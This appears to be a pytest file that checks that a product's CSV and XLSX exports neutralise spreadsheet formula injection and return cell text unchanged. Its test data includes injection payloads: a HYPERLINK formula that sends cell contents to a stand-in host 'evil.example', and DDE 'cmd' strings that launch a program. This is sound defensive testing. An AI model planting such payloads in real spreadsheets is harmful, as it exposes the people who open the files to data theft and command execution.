"""Cells that a spreadsheet would take for formulas: out of every way, and back."""

import csv
import io
import os
from collections.abc import Callable
from itertools import chain
from pathlib import Path
from random import Random
from xml.sax.saxutils import escape

import pyarrow as pa
import pytest

from habitue.app.calling.export_files import _write_csv
from habitue.app.segments.member_forms import encode_members
from habitue.base.cells import guard
from habitue.client.writing import write_csv
from habitue.collect.files import RejectFile, look, recall
from habitue.collect.files.nouns import Rejected
from habitue.console.digest.made import Block, Digest, Line
from habitue.console.digest.written import as_rows
from tests.collect.files.sheets import of_rows

pytestmark = pytest.mark.proof("T31")

CELLS = 1_000 if os.environ.get("HABITUE_TORTURE") else 300
# What Excel, LibreOffice and Google's tables begin a formula with, and its wide forms;
# NUL and ends of lines are dropped by some of them, and then it begins behind these.
BEGINS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
TEXTS = (
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"Anna")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+48 600 100 200",
    "-5,00",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "'=1+1",
    "''=1+1",
    "'Anna'",
    "' ",
    "'",
    "a,b;c\td",
    'say "=1+1"',
    "two\nlines",
    "=1\r\n=2",
    "Łódź – Алматы",
    "",
    " =1+1",
)
Figure = Callable[[str, object], None]


def cells(seed: int) -> list[str]:
    """Give cells by chance, those that were thought of first."""
    chance, made = Random(seed), list(TEXTS)
    letters = "=+-@'\"\t\r\n\0,;|!(){}＝＋aZ1 łЖ"
    while len(made) < CELLS:
        size = chance.randrange(1, 12)
        made.append("".join(chance.choice(letters) for _ in range(size)))
    return made


def back(cell: str) -> str:
    """Take the apostrophe off, as the documentation says."""
    return cell.removeprefix("'")


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def as_members(texts: list[str], _: Path) -> list[str]:
    rows = [{"person_id": at, "name": one} for at, one in enumerate(texts)]
    return [row[1] for row in read(encode_members(rows, None, "csv").decode())[1:]]


def as_export(texts: list[str], folder: Path) -> list[str]:
    rows = [{"offset": at, "name": one} for at, one in enumerate(texts)]
    _write_csv(folder / "events.csv", iter([rows]))
    return [row[1] for row in read(_text(folder / "events.csv"))[1:]]


def as_answer(texts: list[str], folder: Path) -> list[str]:
    """An answer to a question in SQL, whose columns somebody named, too."""
    names = [f"{one}{at}" for at, one in enumerate(BEGINS)]
    table = pa.table({**dict.fromkeys(names, texts), "text": texts})
    write_csv(table, folder / "answer.csv")
    head, *rows = read(_text(folder / "answer.csv"))
    assert [one for one in head if one.startswith(BEGINS)] == []
    assert [back(one) for one in head] == [*names, "text"]
    return [row[-1] for row in rows]


def as_digest(texts: list[str], _: Path) -> list[str]:
    block = Block("=title", tuple(Line(one, one) for one in texts))
    heads = ("+a", "=b", "-c", "@d")
    digest = Digest("=digest", "", "", "", (), (block,), heads)
    head, *rows = read(as_rows(digest))
    assert not any(cell.startswith(BEGINS) for cell in (*head, *chain(*rows)))
    return [row[1] for row in rows]


WAYS = {
    "a segment's members": as_members,
    "the tables of an export": as_export,
    "an answer to SQL": as_answer,
    "the week in figures": as_digest,
}


@pytest.mark.parametrize("way", WAYS)
def test_no_cell_that_goes_out_is_a_formula_and_each_comes_back(
    way: str, tmp_path: Path, seed: int, figure: Figure
) -> None:
    told = cells(seed)

    found = WAYS[way](told, tmp_path)

    figure(f"cells, {way}", len(found))
    assert [one for one in found if one.startswith(BEGINS)] == []
    assert [back(one) for one in found] == told


def test_rejected_lines_are_no_formulas_and_are_read_back_as_they_were(
    tmp_path: Path, seed: int, figure: Figure
) -> None:
    """The one table that comes back into the product itself."""
    told = [one for one in cells(seed) if one.strip("\r\n\0 ") and "\0" not in one]
    path = tmp_path / "rejects.csv"
    with RejectFile(path, ("email", "city")) as file:
        file.write(
            Rejected(at, "wrong", "", (f"{at}@shop.example", one))
            for at, one in enumerate(told, 2)
        )
    written = [row[1] for row in read(_text(path))[1:]]
    assert [one for one in written if one.startswith(BEGINS)] == []

    reasons = dict.fromkeys(range(2, len(told) * 3), "wrong still")
    found = [one.cells[1] for one in recall(look(path), reasons)]

    figure("cells read back", len(found))
    assert found == told


def test_a_spreadsheet_that_is_sent_back_says_what_the_table_did(
    tmp_path: Path, seed: int, figure: Figure
) -> None:
    """As somebody does who opens a table, saves it as .xlsx and sends it in."""
    told = [one for one in cells(seed) if _fits(one)]
    rows = [["email", "city"]]
    rows += [[f"{at}@shop.example", escape(guard(one))] for at, one in enumerate(told)]
    path = tmp_path / "sent.xlsx"
    path.write_bytes(of_rows(*rows))

    reasons = dict.fromkeys(range(2, len(told) + 2), "as it is")
    found = [one.cells[1] for one in recall(look(path), reasons)]

    figure("cells of a spreadsheet", len(found))
    assert [one for one in found if one.startswith(BEGINS)] == []
    assert [back(one) for one in found] == told


def _fits(cell: str) -> bool:
    """Say whether a spreadsheet keeps a text as it is."""
    return cell.strip() == cell and not any(letter < " " for letter in cell)


def _text(path: Path) -> str:
    return path.read_bytes().decode()
